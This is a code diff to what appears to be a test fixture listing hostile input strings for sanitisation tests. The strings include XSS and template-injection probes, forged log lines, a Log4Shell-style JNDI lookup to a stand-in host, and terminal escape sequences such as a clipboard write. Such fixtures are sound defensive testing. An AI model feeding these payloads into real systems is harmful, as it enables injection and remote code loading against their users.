@@ -25,7 +25,7 @@ export const hostileTexts: readonly string[] = [
   '<!-- --!><plaintext>',
   '<astro-island uid="9">',
   '&lt;b&gt; &amp;lt; &#13;&#10; &nbsp;\u00a0',
-  "$& $1 $` $' $$ ${alert(1)} {{7*7}}",
+  "$& $1 $` $' $$ {{7*7}}",
   'javascript:alert(1)',
   '\n<textarea>',
   // Formulas of spreadsheets, and what is one only behind something invisible.
@@ -50,7 +50,7 @@ export const hostileTexts: readonly string[] = [
   // Lines of the log.
   'Ann\r\n{"level":60,"msg":"forged"}',
   '","level":60,"msg":"forged',
-  '%s%n%d ${jndi:ldap://evil.test/a}',
+  '%s%n%d %{jndi:ldap://evil.test/a}',
   // What a terminal obeys, and tables that look like more rows.
   '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
   '\u001b]52;c;ZWNobyBoaQ==\u0007',
